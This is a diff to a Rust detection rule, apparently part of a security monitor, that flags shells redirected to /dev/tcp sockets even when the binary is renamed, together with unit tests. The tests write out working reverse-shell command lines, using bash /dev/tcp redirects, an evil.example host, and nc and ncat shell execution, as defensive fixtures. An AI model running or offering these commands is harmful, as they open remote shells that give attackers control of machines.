@@ -85,7 +85,8 @@ impl ReverseShell {
     fn check_exec(&self, event: &Event<'_>, exec: &ProcessExec<'_>, findings: &mut Findings) {
         let name = exec.name();
         let cmd = exec.command_line();
-        if (contains_ci(&cmd, "/dev/tcp/") || contains_ci(&cmd, "/dev/udp/")) && (is_shell(name) || exec.argv.iter().any(|a| is_shell(basename(a)))) {
+        // The redirection onto /dev/tcp is the tell, whatever the shell is called.
+        if redirects_to_dev_net(&cmd) || ((contains_ci(&cmd, "/dev/tcp/") || contains_ci(&cmd, "/dev/udp/")) && (is_shell(name) || exec.argv.iter().any(|a| is_shell(basename(a))))) {
             findings.report(&DEV_TCP, event, format!("{name} redirects a shell to a network socket")).evidence.push(("command_line".into(), cmd));
             return;
         }
@@ -200,6 +201,8 @@ mod tests {
     fn command_lines() {
         assert_eq!(rule_of(&["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]), vec![DEV_TCP.id]);
         assert_eq!(rule_of(&["sh", "-c", "exec 5<>/dev/tcp/evil.example/80; cat <&5 | sh >&5"]), vec![DEV_TCP.id]);
+        // A renamed copy of bash is caught by the redirection itself.
+        assert_eq!(rule_of(&["kworker", "-c", "exec 5<>/dev/tcp/10.0.0.1/443; sh <&5 >&5"]), vec![DEV_TCP.id]);
         assert_eq!(rule_of(&["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]), vec![NETCAT_EXEC.id]);
         assert_eq!(rule_of(&["nc", "-lvnpe", "4444"]), vec![NETCAT_EXEC.id]);
         assert_eq!(rule_of(&["ncat", "10.0.0.1", "4444", "--sh-exec", "bash"]), vec![NETCAT_EXEC.id]);
